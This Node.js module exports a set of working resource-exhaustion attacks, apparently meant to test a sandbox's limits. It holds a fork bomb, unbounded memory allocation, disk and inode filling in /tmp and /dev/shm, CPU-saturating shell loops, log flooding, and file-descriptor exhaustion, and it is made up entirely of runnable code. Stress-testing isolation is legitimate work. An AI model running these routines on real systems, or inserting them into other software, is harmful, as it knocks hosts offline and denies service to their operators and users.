// Attacks that take all they can get, until their time is over.
'use strict';

const { spawn } = require('node:child_process');
const fs = require('node:fs');
const net = require('node:net');
const { leave } = require('./native.js');

const never = () => new Promise((resolve) => setTimeout(resolve, 1 << 30));
const spin = () => { for (;;); };

async function fork() {
  leave('fork-bomb');
  leave('fork-bomb');
  await never();
}

function memory() {
  const all = [];
  for (;;) all.push(Buffer.alloc(1 << 22, 1));
}

function disk() {
  const chunk = Buffer.alloc(1 << 20, 1);
  for (let n = 0; ; n++) {
    for (const folder of ['/tmp', '/dev/shm']) {
      try {
        fs.appendFileSync(`${folder}/full-${n % 4}`, chunk);
      } catch {
        fs.rmSync(`${folder}/full-${(n + 1) % 4}`, { force: true });
      }
    }
  }
}

function inodes() {
  for (let n = 0; ; n++) {
    try {
      fs.mkdirSync(`/tmp/d${n >> 12}`, { recursive: true });
      fs.writeFileSync(`/tmp/d${n >> 12}/${n}`, '');
    } catch {
      fs.rmSync(`/tmp/d${(n >> 12) - 1}`, { recursive: true, force: true });
    }
  }
}

function processor() {
  for (let n = 0; n < 8; n++) spawn('/bin/sh', ['-c', 'while :; do :; done'], { stdio: 'ignore' });
  spin();
}

function log() {
  const line = `${'x'.repeat(1 << 16)}\n`;
  for (;;) {
    for (const fd of [1, 2]) {
      try {
        fs.writeSync(fd, line);
      } catch (error) {
        if (error.code !== 'EAGAIN') throw error;
      }
    }
  }
}

async function descriptors() {
  const kept = [];
  for (;;) {
    try {
      kept.push(fs.openSync('/dev/null'));
    } catch {
      for (const fd of kept.splice(0, 512)) fs.closeSync(fd);
    }
    if (kept.length % 8 === 0) {
      const socket = net.connect({ host: '127.0.0.1', port: 9 }).on('error', () => {});
      await new Promise((resolve) => setImmediate(resolve));
      socket.destroy();
    }
  }
}

module.exports = { bomb: (kind) => ({ fork, memory, disk, inodes, processor, log, descriptors })[kind]() };
